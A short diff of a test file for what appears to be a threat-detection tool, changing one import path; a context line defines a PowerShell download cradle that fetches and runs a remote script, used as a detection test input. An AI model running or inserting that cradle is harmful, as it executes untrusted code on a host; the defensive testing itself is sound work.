@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { createDetector, DEFAULT_ALLOWLIST } from '../../lambda/detect/index.js';
 import { WMIC_REMOTE_EXEC } from '../../lambda/hunts/index.js';
-import { explainAnalysis, DEFAULT_EXPLAIN_DEPS, renderExplanation } from '../../lambda/cli/explain.js';
+import { explainAnalysis, DEFAULT_EXPLAIN_DEPS, renderExplanation } from '../../local/cli/explain.js';
 import { encodePs, shell, wmic } from './helpers.js';
 
 const CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')";
